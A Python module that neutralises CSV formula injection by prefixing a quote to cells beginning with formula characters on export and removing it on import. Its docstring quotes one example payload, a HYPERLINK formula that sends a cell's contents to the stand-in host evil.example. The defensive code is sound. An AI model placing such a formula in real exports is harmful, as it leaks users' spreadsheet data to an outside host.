"""CSV cells a spreadsheet would run as formulas, made inert on export and read back exactly.

A cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage return, which some
spreadsheets skip before looking) is a formula to Excel, LibreOffice and Google Sheets: a title
like `=HYPERLINK("http://evil.example/?leak="&A1,"click")` would become a live link that sends
the sheet's contents away. OWASP's advice is to start such a cell with a single quote, which
every spreadsheet shows as text and hides.

The quote must come off again on import, and only when the exporter put it there: a title that
really starts with `'=` must survive too. So the exporter adds one quote to any cell that is
quotes followed by a formula character, and the importer takes one off any such cell. Every
string comes back as it went out: `=x` → `'=x` → `=x`, `'=x` → `''=x` → `'=x`, `'x` → `'x`.
"""

from __future__ import annotations

import re

FORMULA_STARTS = "=+-@\t\r"
_NEEDS_QUOTE = re.compile(rf"'*[{re.escape(FORMULA_STARTS)}]")
_QUOTED = re.compile(rf"'+[{re.escape(FORMULA_STARTS)}]")


def inert(cell: str) -> str:
    """The cell as a spreadsheet reads it as text: one quote before a formula's start."""
    return f"'{cell}" if _NEEDS_QUOTE.match(cell) else cell


def as_typed(cell: str) -> str:
    """The text an exported cell held before `inert`: its added quote taken off."""
    return cell[1:] if _QUOTED.match(cell) else cell
